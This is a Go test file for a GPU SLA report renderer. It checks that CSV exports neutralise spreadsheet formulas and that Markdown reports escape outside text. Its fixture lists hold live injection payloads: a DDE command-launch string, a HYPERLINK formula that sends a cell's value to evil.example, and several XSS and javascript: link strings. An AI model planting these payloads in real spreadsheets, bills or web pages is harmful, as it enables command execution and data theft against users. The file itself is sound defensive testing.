package document

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"html"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	extast "github.com/yuin/goldmark/extension/ast"
	"github.com/yuin/goldmark/text"

	"github.com/gpusla/gpusla/sla/billing"
	"github.com/gpusla/gpusla/sla/i18n"
	"github.com/gpusla/gpusla/sla/msg"
	"github.com/gpusla/gpusla/sla/report"
	"github.com/gpusla/gpusla/sla/scorecard"
	"github.com/gpusla/gpusla/sla/scorecard/scorecardtest"
)

// hostileNodes are bill node ids an attacker (or a careless provider
// console) can put in a bill: spreadsheet formulas, HTML, links and
// table breakers for Markdown.
var hostileNodes = []string{
	"=1+1", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", `=HYPERLINK("https://evil.example/?"&A1,"x")`,
	`<img src=x onerror=alert(1)>`, "[click](javascript:alert(1))", "<https://evil.example/a>", "![i](https://evil.example/i.png)",
	"a|b", "<script>alert(1)</script>", "&lt;b&gt;", "`code`", "<!-- c -->", "[ref]", "**bold**",
}

// hostileReport is the claim month with a bill whose unknown nodes carry
// hostileNodes, in both bill forms, and a retroactive record whose
// outside fields (its node, who recorded it, the override's reason) are
// hostile too and whose late_seconds is negative: gpusla's own number.
func hostileReport(t *testing.T) (*report.Report, Extras) {
	t.Helper()
	r := buildClaim(t)
	var node, full strings.Builder
	node.WriteString("node,period,billed_hours,amount,currency\n")
	full.WriteString("node,period,kind,quantity,amount,description\n")
	q := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
	for _, h := range hostileNodes {
		node.WriteString(q(h) + ",2026-11,1,10,USD\n")
		full.WriteString(q(h) + ",2026-11,traffic,1,1," + q(h) + "\n")
	}
	lines, err := billing.ParseCSV("bill.csv", strings.NewReader(node.String()))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := billing.Reconcile(r, lines)
	if err != nil {
		t.Fatal(err)
	}
	f := judgeFull(t, r, full.String())
	f.LeftOut = []billing.LeftOut{{Reason: "=cmd credit", Text: msg.Plain("=cmd credit"), Rows: 1, Amount: -3.24, Currency: "USD"}}
	r.Retroactive.Records = append(r.Retroactive.Records, report.Retro{Node: "=1+1", Kind: "maintenance", ID: "@id", Ticket: "-T",
		ClaimedAt: "2026-11-02T00:00:00Z", RecordedAt: "2026-11-01T23:50:00Z", RecordedBy: "api:k1 (=HYPERLINK(\"x\"))",
		LateSeconds: -600, Override: "\t=cmd", Effect: "+effect", EffectText: msg.Plain("+effect")})
	return r, Extras{Bill: rc, Lines: f}
}

// TestSheetCell: OWASP's rule, cell by cell.
func TestSheetCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "@SUM(A1)": "'@SUM(A1)", "+1": "'+1", "-2+3": "'-2+3", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"  =1": "'  =1", "-": "'-", "-1e5": "'-1e5", "--1": "'--1",
		// Numbers as gpusla writes them stay numbers; other text is as is.
		"-12.50": "-12.50", "-600": "-600", "0": "0", "18457.60": "18457.60", "va-01": "va-01", "": "", "2026-11-01T00:00:00Z": "2026-11-01T00:00:00Z",
		"费用": "费用", "a=b": "a=b",
	} {
		if got := sheetCell(in); got != want {
			t.Errorf("sheetCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVIsFormulaSafe: every cell of report.csv — the
// node table, the bill's lines, the rows not judged, the retroactive
// records — is read back; none a spreadsheet would run as a formula,
// every hostile node id is there as text, and gpusla's negative numbers
// (a credit's -3.24, a notice's late_seconds -600) are still numbers.
func TestCSVIsFormulaSafe(t *testing.T) {
	r, x := hostileReport(t)
	for _, lang := range i18n.Langs {
		x.Lang = lang
		var buf bytes.Buffer
		if err := Render(&buf, r, "csv", x); err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(&buf)
		cr.FieldsPerRecord = -1
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		cells := map[string]bool{}
		for i, rec := range recs {
			for _, c := range rec {
				cells[c] = true
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(strings.TrimLeft(c, " ")[0])) && !plainDecimal.MatchString(c) {
					t.Errorf("%s: record %d: cell %q would be run as a formula", lang, i+1, c)
				}
			}
		}
		for _, h := range append([]string{"'=1+1", "'@id", "'-T", "'\t=cmd", `'=cmd credit`}, "-3.24", "-600") {
			if !cells[h] {
				t.Errorf("%s: no cell %q", lang, h)
			}
		}
		for _, h := range hostileNodes {
			if want := sheetCell(h); !cells[want] {
				t.Errorf("%s: bill node %q is not written as %q", lang, h, want)
			}
		}
	}
}

// poison puts hostile text in every field of r that came from outside and
// a Markdown document draws: bill node ids (hostileReport), the provider's
// name and GPU model, ticket ids, references and summaries, maintenance
// summaries and overrides, who recorded them, the provider's incident
// titles, ids and components, and a retroactive record's override.
func poison(r *report.Report, h string) {
	for i := range r.Contracts {
		r.Contracts[i].Provider = h
		if ps := r.Contracts[i].ProviderStatus; ps != nil {
			for k := range ps.Incidents {
				in := &ps.Incidents[k]
				in.Title, in.ID, in.Components, in.Impact = h, h+" "+strconv.Itoa(k), []string{h}, h
			}
			ps.Keywords = []string{h}
		}
	}
	for i := range r.Nodes {
		n := &r.Nodes[i]
		n.Provider, n.Hardware.GPUModel = h, h
		for k := range n.Tickets {
			n.Tickets[k].Ticket, n.Tickets[k].ProviderRef, n.Tickets[k].Summary, n.Tickets[k].Category = h, h, h, h
		}
		for k := range n.Maintenance {
			n.Maintenance[k].Summary, n.Maintenance[k].Override, n.Maintenance[k].RecordedBy = h, h, h
		}
	}
	for i := range r.Retroactive.Records {
		r.Retroactive.Records[i].Override, r.Retroactive.Records[i].RecordedBy = h, h
	}
}

// outsideMarkdown is text from outside that must come out of a Markdown
// document as text: raw HTML, links of every form CommonMark and GitHub's
// extensions know, and a table breaker.
var outsideMarkdown = append(hostileNodes, "www.evil.example", "https://evil.example/x", "mail ops@evil.example", "mailto:ops@evil.example",
	"<a href='https://evil.example'>x</a>", "[x]: https://evil.example", "x\n\n<div onclick=alert(1)>y</div>", "1. list", "# heading", "> quote",
	"---", "    indented code", "a\\<b>", "_x_", "[x](<javascript:alert(1)>)")

// TestMarkdownEscapesOutsideText: report.md, rendered
// with hostile text in every field from outside, parsed by a CommonMark
// parser with GitHub's extensions (goldmark: tables, autolinks of bare
// addresses, strikethrough) holds no raw HTML, no link and no image, and
// every table row has its header's cells — the hostile text is there as
// text, each string whole in one cell.
func TestMarkdownEscapesOutsideText(t *testing.T) {
	claim, x := hostileReport(t)
	prov := providerReport(t)
	for _, h := range outsideMarkdown {
		for _, r := range []*report.Report{claim, prov} {
			poison(r, h) // over the last string's: every field gets h
			for _, lang := range i18n.Langs {
				x.Lang = lang
				var buf bytes.Buffer
				if err := Render(&buf, r, "md", x); err != nil {
					t.Fatal(err)
				}
				checkMarkdown(t, fmt.Sprintf("%s %s %q", r.Contracts[0].Contract, lang, h), buf.Bytes(), strings.Join(strings.Fields(h), " "))
			}
		}
	}
}

// checkMarkdown parses md and fails on any raw HTML, link, image or code
// block node, or a table row whose cells differ from its header's; then
// renders it and fails when want is not in its text, as written.
func checkMarkdown(t *testing.T, what string, md []byte, want string) {
	t.Helper()
	gm := goldmark.New(goldmark.WithExtensions(extension.GFM))
	doc := gm.Parser().Parse(text.NewReader(md))
	err := ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n.Kind() {
		case ast.KindRawHTML, ast.KindHTMLBlock, ast.KindLink, ast.KindAutoLink, ast.KindImage, ast.KindCodeBlock:
			t.Errorf("%s: a %s node from outside text", what, n.Kind())
		case extast.KindTableRow:
			if head := n.Parent().FirstChild(); head.ChildCount() != n.ChildCount() {
				t.Errorf("%s: a table row of %d cells under a header of %d", what, n.ChildCount(), head.ChildCount())
			}
		}
		return ast.WalkContinue, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := gm.Renderer().Render(&out, md, doc); err != nil {
		t.Fatal(err)
	}
	// The rendered text: tags (all of them the document's own, as the walk
	// shows) dropped, entities read, white space folded.
	plain := strings.Join(strings.Fields(html.UnescapeString(tags.ReplaceAllString(out.String(), " "))), " ")
	if !strings.Contains(plain, want) {
		t.Errorf("%s: the text %q is not in the document as written", what, want)
	}
}

var tags = regexp.MustCompile(`<[^>]*>`)

// The scorecard's and the fleet section's Markdown draw provider names,
// contracts, GPU models and node ids from outside too.
func TestScorecardMarkdownEscapesOutsideText(t *testing.T) {
	for _, h := range outsideMarkdown {
		sc := scorecardtest.Golden(t)
		poisonScorecard(sc, h)
		var md bytes.Buffer
		if err := ScorecardMarkdown(&md, sc); err != nil {
			t.Fatal(err)
		}
		checkMarkdown(t, fmt.Sprintf("scorecard %q", h), md.Bytes(), strings.Join(strings.Fields(h), " "))
	}
}

// poisonScorecard puts h in every field of sc from outside: providers,
// contracts, GPU models and node ids.
func poisonScorecard(sc *scorecard.Scorecard, h string) {
	for i := range sc.Table.Rows {
		sc.Table.Rows[i].Provider = h
	}
	for i := range sc.Providers {
		p := &sc.Providers[i]
		p.Provider, p.Contracts = h, []string{h}
		for k := range p.Models {
			p.Models[k].GPUModel = h
		}
	}
	for i := range sc.Fleet.Dists {
		sc.Fleet.Dists[i].Model = h
	}
	for i := range sc.Fleet.Findings {
		sc.Fleet.Findings[i].Node = h
	}
}

// FuzzMarkdownText: whatever the text, drawn as a paragraph, a list item,
// a heading and a table cell it makes no raw HTML, link, image or code
// block, keeps the table's cells, and reads back as written.
func FuzzMarkdownText(f *testing.F) {
	for _, h := range outsideMarkdown {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) || strings.ContainsRune(s, 0) || strings.ContainsRune(s, utf8.RuneError) {
			return // gpusla refuses text that is not UTF-8 where it comes in
		}
		md := "# " + mdText(s) + "\n\n" + mdText(s) + "\n\n- " + mdText(s) + "\n\n| a | b |\n|---|---|\n| " + mdInline(s) + " | x |\n"
		checkMarkdown(t, fmt.Sprintf("%q", s), []byte(md), strings.Join(strings.Fields(s), " "))
	})
}
